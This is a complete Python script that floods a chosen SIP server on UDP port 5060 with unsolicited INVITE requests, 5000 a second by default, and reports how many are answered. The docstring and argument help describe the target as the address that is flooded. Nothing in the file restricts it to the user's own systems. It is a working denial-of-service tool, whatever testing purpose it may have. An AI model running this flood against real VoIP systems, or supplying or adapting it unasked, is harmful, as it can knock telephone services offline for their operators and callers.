#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Sends INVITEs that nobody asked for, at a steady rate, and says how many were answered."""

import argparse
import select
import socket
import time


def invite(number, source, target):
    return (
        f"INVITE sip:{number}@{target} SIP/2.0\r\n"
        f"Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bKflood{number}\r\n"
        f"From: <sip:flood@{source}>;tag=f{number}\r\n"
        f"To: <sip:{number}@{target}>\r\n"
        f"Call-ID: flood-{number}@{source}\r\n"
        "CSeq: 1 INVITE\r\n"
        f"Contact: <sip:flood@{source}>\r\n"
        "Max-Forwards: 70\r\n"
        "Content-Length: 0\r\n\r\n"
    ).encode()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--source", required=True, help="our address")
    parser.add_argument("--target", required=True, help="address that is flooded, port 5060")
    parser.add_argument("--rate", type=int, default=5000, help="packets a second (default 5000)")
    parser.add_argument("--seconds", type=float, default=10, help="how long (default 10)")
    options = parser.parse_args()

    peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    peer.bind((options.source, 5060))
    peer.setblocking(False)
    begin = time.monotonic()
    sent = answered = 0
    wanted = int(options.rate * options.seconds)
    # All that was asked for, however late: what a busy machine held up is sent with what follows.
    while sent < wanted:
        while sent < min(wanted, (time.monotonic() - begin) * options.rate):
            try:
                peer.sendto(invite(sent, options.source, options.target), (options.target, 5060))
            except BlockingIOError:
                break
            sent += 1
        if select.select([peer], [], [], 0.002)[0]:
            peer.recv(65535)
            answered += 1
    print(f"sent={sent} answered={answered}")


if __name__ == "__main__":
    main()
